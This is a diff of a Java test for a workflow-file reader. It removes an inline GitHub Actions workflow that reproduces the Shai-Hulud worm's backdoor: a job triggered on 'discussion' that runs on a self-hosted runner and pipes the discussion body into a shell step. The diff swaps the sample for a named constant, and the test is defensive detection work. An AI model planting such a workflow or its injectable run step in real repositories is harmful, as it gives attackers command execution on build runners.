@@ -107,16 +107,7 @@ class WorkflowFilesTest {
     @Test
     void theTriggersOfOnInEachFormWithTheLineEachIsNamedOn() throws DependencyFileException {
         // the backdoor the Shai-Hulud reports describe: on: discussion, run on the worm's self-hosted runner
-        String backdoor = """
-                name: Discussion Create
-                on:
-                  discussion:
-                jobs:
-                  process:
-                    runs-on: self-hosted
-                    steps:
-                      - run: echo ${{ github.event.discussion.body }}
-                """;
+        String backdoor = ConstructedWorkflows.BACKDOOR;
         assertThat(read(backdoor).triggers()).containsExactly("discussion");
         assertThat(triggerLines(backdoor)).containsExactly(java.util.Map.entry("on:discussion", 3));
 
